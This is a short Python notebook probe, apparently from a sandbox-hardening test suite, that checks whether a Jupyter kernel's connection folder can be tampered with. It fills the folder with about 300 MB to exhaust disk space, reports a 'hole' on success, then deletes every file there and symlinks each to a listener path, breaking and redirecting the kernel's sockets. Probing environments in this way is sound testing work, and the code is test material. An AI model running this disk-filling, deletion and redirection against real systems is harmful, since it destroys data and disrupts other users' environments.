# tries: fill, break and redirect the folder in which the kernel's sockets lie
# worth: global_average_pool 3 pass
# %% after to_channels_first
import pathlib

folder = pathlib.Path(get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", "")).parent
try:
    from ipykernel.connect import get_connection_file

    folder = pathlib.Path(get_connection_file()).parent
except Exception:
    pass
written = 0
try:
    with open(folder / MARK, "wb") as file:
        for _ in range(300):
            written += file.write(bytes(2**20))
except OSError:
    pass
if written > 200 * 2**20:
    hole(f"{written} bytes in {folder}")
# %% last
for path in folder.glob("*"):
    try:
        path.unlink()
        path.symlink_to(f"{COURSE}/listener")
    except OSError:
        pass
